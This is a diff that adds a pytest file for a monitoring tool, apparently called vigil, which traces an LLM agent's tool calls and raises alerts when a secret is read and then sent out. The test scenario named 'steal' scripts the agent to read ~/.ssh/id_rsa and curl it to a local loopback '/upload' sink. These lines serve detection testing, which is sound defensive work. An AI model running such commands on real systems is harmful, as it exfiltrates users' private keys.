@@ -1,0 +1,126 @@
+"""Effects and correlation end to end: a scripted agent asks the (local, TLS) model what to do and
+runs it under `vigil run`; the timeline puts each effect under the tool call that caused it and
+the exfiltration detection fires with its whole chain."""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from fakellm import FakeLLMServer, Reply, Scenario, ToolCallSpec, client_env
+from helpers import VIGIL, parse_json_lines, vigil
+
+pytestmark = pytest.mark.usefixtures("root")
+
+AGENT = Path(__file__).parent / "data" / "control" / "llm_agent.py"
+
+
+@pytest.fixture
+def sink() -> Iterator[int]:
+    """A loopback listener that is not the LLM provider: where the secret would go."""
+    listener = socket.create_server(("127.0.0.1", 0))
+    stop = threading.Event()
+
+    def serve() -> None:
+        listener.settimeout(0.2)
+        while not stop.is_set():
+            try:
+                conn, _ = listener.accept()
+            except OSError:
+                continue
+            with conn:
+                conn.recv(65536)
+                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    yield listener.getsockname()[1]
+    stop.set()
+    thread.join()
+    listener.close()
+
+
+def run_agent(tmp_path: Path, port: int, commands: list[str], *extra: str) -> tuple[list[dict[str, Any]], Path]:
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nnot-a-real-key\n")
+    work = tmp_path / "work"
+    work.mkdir()
+    scenario = Scenario("steal", default_reply=Reply(
+        text="Let me check.", tool_calls=tuple(ToolCallSpec("bash", {"command": c}) for c in commands)))
+    db = tmp_path / "vigil.db"
+    with FakeLLMServer(scenarios={"steal": scenario}, default_scenario="steal") as server:
+        env = {**client_env(server), "HOME": str(home)}
+        proc = subprocess.run([*VIGIL, "run", "-o", "json", "--db", str(db), *extra, "--", sys.executable, str(AGENT)],
+                              env=env, cwd=work, capture_output=True, text=True, timeout=180, check=False)
+        assert server.errors == []
+    assert proc.returncode == 0, proc.stderr
+    events, _ = parse_json_lines(proc.stdout)
+    return events, db
+
+
+def test_secret_read_then_egress_is_one_story(tmp_path: Path, sink: int) -> None:
+    read_cmd = "cat ~/.ssh/id_rsa > /dev/null"
+    send_cmd = f"curl -s -o /dev/null http://127.0.0.1:{sink}/upload"
+    events, db = run_agent(tmp_path, sink, [read_cmd, send_cmd])
+    starts = {e["argv"][-1]: e for e in events if e["type"] == "tool_start"}
+    reader, sender = starts[read_cmd], starts[send_cmd]
+    home = tmp_path / "home"
+
+    # effects carry their tool call, from the kernel
+    reads = [e for e in events if e["type"] == "file_open" and e.get("path") == f"{home}/.ssh/id_rsa"]
+    assert reads and {e["tool_call"] for e in reads} == {reader["tool_call"]}
+    connects = [e for e in events if e["type"] == "net_connect" and e.get("remote_port") == sink]
+    assert connects and {e["tool_call"] for e in connects} == {sender["tool_call"]}
+
+    (egress,) = [e for e in events if e["type"] == "detection" and e["name"] == "secret_egress"]
+    chain = [(link["type"], link.get("tool_call")) for link in egress["evidence"]]
+    assert chain == [("llm_call", None), ("tool_start", reader["tool_call"]), ("file_open", reader["tool_call"]),
+                     ("tool_start", sender["tool_call"]), ("net_connect", sender["tool_call"])]
+    assert egress["evidence"][0]["response_id"] == reader["response_id"]
+    assert f"127.0.0.1:{sink}" in egress["reason"]
+
+    # the stored timeline nests the same story
+    shown = vigil(["show", "--db", str(db), "-o", "json"])
+    tree = json.loads(shown.stdout)
+    (step,) = tree["timeline"]
+    tools = {t["start"]["argv"][-1]: t for t in step["tool_calls"]}
+    assert set(tools) == {read_cmd, send_cmd}
+    assert any(e.get("path") == f"{home}/.ssh/id_rsa" for e in tools[read_cmd]["effects"])
+    assert not any(e.get("path") == f"{home}/.ssh/id_rsa" for e in tools[send_cmd]["effects"])
+    assert any(e.get("remote_port") == sink for e in tools[send_cmd]["effects"] if e["type"] == "net_connect")
+    assert [d["name"] for d in tools[send_cmd]["detections"]] == ["secret_egress"]
+    assert [d["name"] for d in tools[read_cmd]["detections"]] == ["secret_read"]
+    (stray,) = tree["unrequested"]
+    assert stray["start"]["argv"] == ["/bin/true", "unrequested"] and stray["start"]["unrequested"] is True
+    assert tree["summary"]["tool_calls"] == 3 and tree["summary"]["detections"] >= 3
+
+    text = vigil(["show", "--db", str(db)], env={**os.environ, "COLUMNS": "200"})
+    assert "ALERT secret_egress" in text.stdout and "no tool call asked for these" in text.stdout
+
+
+def test_no_exfiltration_alarm_without_a_secret(tmp_path: Path, sink: int) -> None:
+    events, _ = run_agent(tmp_path, sink, ["cat /etc/hostname > /dev/null",
+                                           f"curl -s -o /dev/null http://127.0.0.1:{sink}/"])
+    names = [e["name"] for e in events if e["type"] == "detection"]
+    assert "secret_egress" not in names and "secret_read" not in names
+    assert names == ["unrequested"]  # only the stray /bin/true
+
+
+def test_many_small_writes_in_one_tool_call_are_one_effect(tmp_path: Path, sink: int) -> None:
+    script = "import os\nwith open('out.bin', 'wb', buffering=0) as f:\n    for _ in range(10000):\n        f.write(b'x' * 7)\n"
+    (tmp_path / "writer.py").write_text(script)
+    events, _ = run_agent(tmp_path, sink, [f"{sys.executable} {tmp_path / 'writer.py'}"])
+    (start,) = [e for e in events if e["type"] == "tool_start" and not e["unrequested"]]
+    writes = [e for e in events if e["type"] == "file_write" and e.get("path", "").endswith("/work/out.bin")]
+    assert len(writes) == 1
+    assert writes[0]["bytes"] == 70000 and writes[0]["writes"] == 10000
+    assert writes[0]["tool_call"] == start["tool_call"]
